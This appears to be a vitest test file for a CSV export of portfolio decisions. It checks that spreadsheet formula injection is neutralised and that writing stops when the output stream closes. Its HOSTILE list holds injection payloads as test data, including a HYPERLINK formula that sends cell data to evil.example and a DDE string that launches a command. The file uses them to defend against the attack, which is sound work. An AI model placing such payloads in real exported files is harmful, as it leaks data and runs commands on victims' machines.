import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvText, writeDecisions } from '../../src/node';
import { evaluatePortfolio, type PortfolioResult } from '../../src/portfolio';
import { defaultPolicy } from '../../src/rules';
import { baseAccount } from '../account/fixtures';

const asOf = '2026-11-23';

async function csvOf(results: Iterable<PortfolioResult> | AsyncIterable<PortfolioResult>, dialect: 'standard' | 'fr') {
  const chunks: Buffer[] = [];
  const out = new Writable({
    write(chunk, _enc, done) {
      chunks.push(Buffer.from(chunk));
      done();
    },
  });
  await writeDecisions(results, out, { format: 'csv', dialect });
  return Buffer.concat(chunks).toString('utf8');
}

/** The cells of a CSV text, as a spreadsheet reads them (BOM and dialect handled). */
function cells(text: string, dialect: 'standard' | 'fr'): string[][] {
  return parse(text.replace(/^\uFEFF/, ''), { delimiter: dialect === 'fr' ? ';' : ',', relax_column_count: true });
}

/** Cells a spreadsheet would run as a formula (OWASP's list of leading characters). */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(?:[.,]\d+)?$/.test(cell);

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+SUM(1;2)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=1+1;=2+2',
  '-',
];

describe('csvText: cells a spreadsheet would run', () => {
  it.each(['standard', 'fr'] as const)(
    'neutralises =, +, -, @, tab and CR at the start of a cell (%s dialect)',
    (dialect) => {
      const text = csvText([['id', 'note'], ...HOSTILE.map((h) => [h, 'x'])], { dialect });
      const read = cells(text, dialect);
      expect(read.slice(1).map((row) => row[0])).toEqual(HOSTILE.map((h) => `'${h}`));
      for (const row of read) for (const cell of row) expect(runsAsFormula(cell), cell).toBe(false);
    },
  );

  it('keeps negative amounts readable as numbers in both dialects', () => {
    expect(csvText([['amount'], ['-12.50'], ['-0.01'], ['12.50'], ['-3']])).toBe('amount\n-12.50\n-0.01\n12.50\n-3\n');
    expect(csvText([['amount'], ['-12.50'], ['-12,50']], { dialect: 'fr' })).toBe(
      '\uFEFFamount\r\n-12,50\r\n-12,50\r\n',
    );
  });

  it('leaves ordinary cells as they are', () => {
    expect(csvText([['id'], ['A-1029'], ['00012345/02'], ['LOC 2019-17'], ["l'entrée"]])).toBe(
      "id\nA-1029\n00012345/02\nLOC 2019-17\nl'entrée\n",
    );
  });
});

describe('writeDecisions as CSV: account ids a spreadsheet would run', () => {
  it.each(['standard', 'fr'] as const)(
    'neutralises a formula id in decision rows and error rows (%s)',
    async (dialect) => {
      const decided = HOSTILE.filter((h) => !/[\t\r]/.test(h)).map((id) => ({ ...baseAccount(), id }));
      // An account refused by the schema still has its id echoed in its error row, when the id is one.
      const refused = HOSTILE.map((id) => ({ ...baseAccount(), id, ledger: 'not a ledger' }));
      const text = await csvOf(evaluatePortfolio([...decided, ...refused], defaultPolicy, { asOf }), dialect);
      const read = cells(text, dialect);
      expect(read).toHaveLength(1 + decided.length + refused.length);
      const ids = read.slice(1).map((row) => row[1]);
      // A refused id the contract does not accept (a tab, a carriage return) is not echoed at all.
      const echoed = (id: string, refusedRecord: boolean) => (refusedRecord && /[\t\r]/.test(id) ? '' : `'${id}`);
      expect(ids).toEqual([...decided.map((a) => echoed(a.id, false)), ...refused.map((a) => echoed(a.id, true))]);
      for (const row of read) for (const cell of row) expect(runsAsFormula(cell), cell).toBe(false);
    },
  );
});

describe('writeDecisions on an output that goes away', () => {
  // A stream that never drains: each write reports it full, and nothing is ever read.
  const stuck = () => new Writable({ highWaterMark: 1, write: () => undefined });
  const accounts = (n: number) => Array.from({ length: n }, (_, i) => ({ ...baseAccount(), id: `A-${i}` }));

  it('stops with the error when the output is destroyed while a write waits, instead of hanging', async () => {
    const out = stuck();
    setTimeout(() => out.destroy(Object.assign(new Error('write EPIPE'), { code: 'EPIPE' })), 20);
    await expect(writeDecisions(evaluatePortfolio(accounts(5), defaultPolicy, { asOf }), out)).rejects.toThrow(/EPIPE/);
  });

  it('stops at once on an output already closed', async () => {
    const out = stuck();
    out.destroy();
    await expect(writeDecisions(evaluatePortfolio(accounts(2), defaultPolicy, { asOf }), out)).rejects.toThrow(
      /closed/,
    );
  });
});
